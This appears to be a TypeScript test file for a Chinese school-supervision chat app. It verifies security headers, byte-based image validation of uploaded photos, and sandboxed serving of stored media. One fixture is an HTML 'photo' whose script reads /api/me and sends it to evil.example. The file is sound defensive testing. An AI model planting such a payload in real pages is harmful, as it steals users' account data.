import request from 'supertest';
import { media } from '../../src/db/schema/index.ts';
import { clock } from '../../src/clock.ts';
import { signLink } from '../../src/services/links.ts';
import { storeMedia } from '../../src/services/media.ts';
import { addEntry, attachPhoto, setItems, startVisit, submitVisit } from '../../src/services/visits.ts';
import { conversation, type Conversation } from '../helpers/conversation.ts';
import { createOrgFixture, type OrgFixture } from '../helpers/org-fixture.ts';
import { pngBytes } from '../helpers/photo.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';

/** An HTML page with a script that reads /api/me: what the attacker stored as a "photo". */
const HTML = Buffer.from('<html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>new Image().src="https://evil.example/?"+t)</script></body></html>');
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9]);

function expectPageHeaders(res: request.Response, what: string) {
  const csp = String(res.headers['content-security-policy'] ?? '');
  expect([what, csp]).toEqual([what, expect.stringContaining("frame-ancestors 'none'")]);
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("object-src 'none'");
  expect([what, res.headers['x-frame-options']]).toEqual([what, 'DENY']);
  expect([what, res.headers['x-content-type-options']]).toEqual([what, 'nosniff']);
  expect([what, res.headers['referrer-policy']]).toEqual([what, 'no-referrer']);
}

describe('security headers on every page', () => {
  let server: TestServer;
  beforeAll(async () => { server = await startTestServer({}, { web: true, worker: false }); });
  afterAll(async () => { await server.stop(); });

  it('sends CSP, frame-ancestors/X-Frame-Options, nosniff and no-referrer on pages, API answers, errors and assets', async () => {
    for (const path of ['/healthz', '/api/me', '/api/nowhere', '/h5/visits/999', '/h5/media/1?v=1', '/sandbox', '/sandbox/assets/sandbox.js', '/sandbox/api/state', '/sim/wecom/cgi-bin/gettoken']) {
      const res = await request(server.url).get(path);
      expectPageHeaders(res, path);
      // Plain HTTP without an https PUBLIC_BASE_URL: no HSTS (a browser would ignore it anyway).
      expect([path, res.headers['strict-transport-security']]).toEqual([path, undefined]);
    }
  });

  it('adds HSTS to requests that came over HTTPS through the proxy', async () => {
    const res = await request(server.url).get('/healthz').set('X-Forwarded-Proto', 'https');
    expect(res.headers['strict-transport-security']).toBe('max-age=15552000');
  });

  it('adds HSTS everywhere when PUBLIC_BASE_URL is https', async () => {
    const https = await startTestServer({ PUBLIC_BASE_URL: 'https://dudao.example.cn' }, { web: true, worker: false });
    try {
      expect((await request(https.url).get('/healthz')).headers['strict-transport-security']).toBe('max-age=15552000');
    } finally {
      await https.stop();
    }
  });
});

describe('photos from chat are accepted only as images, by their bytes', () => {
  let chat: Conversation;
  beforeAll(async () => { chat = await conversation({ at: '2026-05-20T09:00:00+08:00' }); });
  afterAll(async () => { await chat.close(); });

  it('refuses a text file sent as a photo with a clear reply, and stores nothing', async () => {
    const sup = chat.as('wangdx');
    await sup.send('开始督导 实验小学');
    await sup.sendImage(HTML);
    expect(sup.lastReply()).toBe('这个文件不是照片：请发送 JPG、PNG、GIF 或 WebP 格式的图片。');
    expect(await chat.server.database.db.select().from(media)).toEqual([]);
    await sup.send('进度');
    expect(sup.lastReply()).not.toMatch(/照片[1-9]/);
  });

  it('stores a real photo with the type its bytes are, whatever type was claimed', async () => {
    const sup = chat.as('wangdx');
    await sup.sendImage(pngBytes(20, 20));
    expect(sup.lastReply()).toBe('照片已保存（本次督导共1张）。');
    const rows = await chat.server.database.db.select().from(media);
    expect(rows.map((r) => r.mime)).toEqual(['image/png']);
  });
});

describe('stored media is served only as a verified image, sandboxed', () => {
  let server: TestServer;
  let org: OrgFixture;
  let visitId: number;
  const ids: Record<string, number> = {};

  beforeAll(async () => {
    server = await startTestServer({ SANDBOX: '0' }, { web: true, worker: false });
    const { db } = server.database;
    org = await createOrgFixture(db);
    clock.set(new Date('2026-05-20T09:05:00+08:00'));
    const who = org.supervisor.id;
    ({ visit: { id: visitId } } = await startVisit(db, { personId: who, schoolId: org.schools.shiyan.id }));
    // Rows as the code before this check stored them: whatever type the sender claimed.
    ids.html = (await storeMedia(db, server.dataDir, { bytes: HTML, mime: 'text/html', source: 'test:html' })).id;
    ids.jpegAsHtml = (await storeMedia(db, server.dataDir, { bytes: JPEG, mime: 'text/html', source: 'test:jpeg' })).id;
    for (const mediaId of Object.values(ids)) await attachPhoto(db, { personId: who, mediaId });
    for (const text of ['校园文化建设有特色', '课后服务丰富']) await addEntry(db, { personId: who, kind: 'strength', text });
    for (const text of ['作业公示不及时', '教师培训记录不全']) await addEntry(db, { personId: who, kind: 'weakness', text });
    await setItems(db, { personId: who, codes: [7] });
    await submitVisit(db, { personId: who, baseUrl: server.url });
  });
  afterAll(async () => { clock.reset(); await server.stop(); });

  const photo = (mediaId: number) => request(server.url).get(`/h5/media/${mediaId}?v=${visitId}&t=${signLink(visitId, org.supervisor.id)}`).buffer(true);

  it('never serves a stored non-image (HTML stored as a photo) as a page', async () => {
    const res = await photo(ids.html);
    expect(res.status).toBe(404);
    expect(res.text).not.toContain('<script>');
    expect(res.headers['content-type']).toMatch(/^text\/html/);
    expectPageHeaders(res, 'refused media');
  });

  it('serves an image as the type of its bytes, with nosniff and a sandboxing CSP', async () => {
    const res = await photo(ids.jpegAsHtml);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('image/jpeg');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toBe("default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; sandbox");
    expect(Buffer.from(res.body)).toEqual(JPEG);
  });
});

describe('the sandbox console\'s photos', () => {
  let server: TestServer;
  beforeAll(async () => { server = await startTestServer({}, { web: true, worker: false }); });
  afterAll(async () => { await server.stop(); });

  it('refuses bytes that are not an image, whatever Content-Type the page sent', async () => {
    const res = await request(server.url).post('/sandbox/api/photo?as=wangjianguo').set('Content-Type', 'image/png').send(HTML);
    expect(res.status).toBe(415);
    expect(res.body.message).toBe('请选择一张 JPG、PNG、GIF 或 WebP 图片');
  });
});
